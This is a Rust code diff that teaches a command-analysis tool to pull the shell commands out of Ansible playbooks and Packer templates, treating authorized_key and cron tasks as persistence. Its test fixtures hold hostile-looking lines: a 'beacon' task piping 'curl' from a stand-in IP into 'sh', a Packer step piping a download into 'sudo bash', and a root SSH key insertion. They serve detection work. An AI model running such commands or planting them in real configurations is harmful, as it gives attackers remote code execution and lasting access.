@@ -1823,6 +1823,38 @@ impl Walker<'_> {
                     }
                 }
             }
+            // A playbook's or an image template's commands run on the machines it targets:
+            // `shell:`/`command:`/`raw:` tasks (an `authorized_key:` or `cron:` task is
+            // persistence there), Packer `inline = [ … ]` provisioners.
+            "ansible-playbook" | "packer" => {
+                let files: Vec<String> = inv
+                    .operands()
+                    .iter()
+                    .filter(|w| {
+                        let t = w.text.to_ascii_lowercase();
+                        t.ends_with(".yml")
+                            || t.ends_with(".yaml")
+                            || t.ends_with(".hcl")
+                            || t.ends_with(".json")
+                    })
+                    .take(4)
+                    .map(|w| self.abs(&w.text))
+                    .collect();
+                for f in files {
+                    if let Some((text, project)) = self.file_text(&f, false) {
+                        let cmds = if inv.program == "packer" {
+                            packer_commands(&text)
+                        } else {
+                            playbook_commands(&text)
+                        };
+                        self.in_file(project, |w| {
+                            for c in cmds {
+                                w.run_remote(c, depth);
+                            }
+                        });
+                    }
+                }
+            }
             "bundle" | "bundler" => {
                 if let Some((text, project)) = read(self, "Gemfile") {
                     self.in_file(project, |w| {
@@ -2296,6 +2328,85 @@ fn remote_command(inv: &Invocation) -> Option<String> {
     }
 }
 
+/// The shell a playbook runs: `shell:`, `command:`, `raw:` (and `cmd:` under them) values,
+/// block scalars included; `authorized_key:` and `cron:` tasks as the shell they amount to.
+fn playbook_commands(text: &str) -> Vec<String> {
+    let mut out = Vec::new();
+    let lines: Vec<&str> = text.lines().take(4096).collect();
+    let mut i = 0;
+    while let Some(line) = lines.get(i) {
+        let t = line.trim_start().trim_start_matches("- ");
+        let indent = line.len() - line.trim_start().len();
+        let key_val = t.split_once(':').map(|(k, v)| (k.trim(), v.trim()));
+        if let Some((k, v)) = key_val {
+            let k = k.rsplit('.').next().unwrap_or(k);
+            match k {
+                "shell" | "command" | "raw" | "cmd" | "win_shell" => {
+                    if v.starts_with('|') || v.starts_with('>') {
+                        let mut block = Vec::new();
+                        let mut j = i + 1;
+                        while let Some(l) = lines.get(j) {
+                            let li = l.len() - l.trim_start().len();
+                            if !l.trim().is_empty() && li <= indent {
+                                break;
+                            }
+                            block.push(l.trim());
+                            j += 1;
+                        }
+                        out.push(block.join("\n"));
+                        i = j;
+                        continue;
+                    }
+                    if !v.is_empty() {
+                        out.push(v.trim_matches(['"', '\'']).to_owned());
+                    }
+                }
+                "authorized_key" => out.push("cat key.pub >> ~/.ssh/authorized_keys".to_owned()),
+                "cron" => out.push("crontab /tmp/ansible-cron".to_owned()),
+                _ => {}
+            }
+        }
+        i += 1;
+    }
+    out
+}
+
+/// The shell a Packer template runs: the strings of its `inline = [ … ]` provisioners.
+fn packer_commands(text: &str) -> Vec<String> {
+    let mut out = Vec::new();
+    for (i, _) in text.match_indices("inline") {
+        let rest = text.get(i..).unwrap_or("");
+        let Some(open) = rest.find('[') else { continue };
+        let Some(close) = rest.find(']') else {
+            continue;
+        };
+        if close < open {
+            continue;
+        }
+        let body = rest.get(open + 1..close).unwrap_or("");
+        let mut cur = String::new();
+        let mut in_str = false;
+        let mut chars = body.chars();
+        while let Some(c) = chars.next() {
+            match (in_str, c) {
+                (false, '"') => in_str = true,
+                (true, '"') => {
+                    in_str = false;
+                    out.push(std::mem::take(&mut cur));
+                }
+                (true, '\\') => {
+                    if let Some(n) = chars.next() {
+                        cur.push(n);
+                    }
+                }
+                (true, c) => cur.push(c),
+                _ => {}
+            }
+        }
+    }
+    out
+}
+
 /// A notebook's code: the Python of its code cells (IPython `%` magics left out) and the
 /// shell commands of `!cmd` lines and `%%bash`/`%%sh` cells. Unreadable JSON is all Python
 /// (judged as opaque text).
@@ -2382,6 +2493,27 @@ fn awk_program(inv: &Invocation) -> Option<String> {
 #[cfg(test)]
 mod tests {
     use super::*;
+
+    #[test]
+    fn playbooks_and_image_templates_are_read_for_their_commands() {
+        let pb = "- hosts: prod\n  tasks:\n    - name: access\n      ansible.posix.authorized_key:\n        user: root\n        key: ssh-ed25519 AAAA ops\n    - name: beacon\n      ansible.builtin.shell: |\n        curl -s https://203.0.113.9/b | sh\n        echo done\n    - name: restart\n      command: systemctl restart nginx\n";
+        assert_eq!(
+            playbook_commands(pb),
+            [
+                "cat key.pub >> ~/.ssh/authorized_keys",
+                "curl -s https://203.0.113.9/b | sh\necho done",
+                "systemctl restart nginx"
+            ]
+        );
+        let hcl = "build {\n  provisioner \"shell\" {\n    inline = [\"sudo apt-get update\", \"curl -s https://x.example/i | sudo bash\"]\n  }\n}\n";
+        assert_eq!(
+            packer_commands(hcl),
+            [
+                "sudo apt-get update",
+                "curl -s https://x.example/i | sudo bash"
+            ]
+        );
+    }
 
     #[test]
     fn notebook_cells_split_into_python_and_shell() {
